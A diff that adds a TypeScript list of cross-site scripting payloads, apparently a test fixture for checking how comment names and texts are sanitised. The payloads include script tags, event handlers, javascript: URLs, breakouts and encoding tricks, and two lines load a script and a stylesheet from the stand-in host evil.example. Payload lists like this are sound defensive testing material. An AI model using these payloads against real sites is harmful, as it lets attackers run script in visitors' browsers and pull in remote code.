@@ -1,0 +1,31 @@
+/**
+ * Common cross-site scripting payloads, as comment names and texts would carry them: script tags,
+ * event handlers, javascript: URLs, attribute and tag breakouts, entity and Unicode-escape tricks.
+ */
+export const XSS_VECTORS: readonly string[] = [
+  '<script>alert(1)</script>',
+  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
+  '<img src=x onerror=alert(1)>',
+  '<svg onload=alert(1)>',
+  '<svg><script>alert&#40;1&#41;</script></svg>',
+  '<a href="javascript:alert(1)">click</a>',
+  '<a href="jav&#x09;ascript:alert(1)">tab</a>',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '"><script>alert(1)</script>',
+  "'><img src=x onerror=alert(1)>",
+  '" onmouseover="alert(1)" x="',
+  "' autofocus onfocus='alert(1)",
+  '</textarea><script>alert(1)</script>',
+  '</p></article></li></ol><script>alert(1)</script>',
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+  '&#60;img src=x onerror=alert(1)&#62;',
+  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
+  '\u003cimg src=x onerror=alert(1)\u003e',
+  '<body onload=alert(1)>',
+  '<details open ontoggle=alert(1)>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
+  '<!--<img src="--><img src=x onerror=alert(1)//">',
+  '[click](javascript:alert(1)) **bold** <b>bold</b>',
+  '<style>@import "//evil.example/x.css";</style>',
+  '`${alert(1)}`',
+];
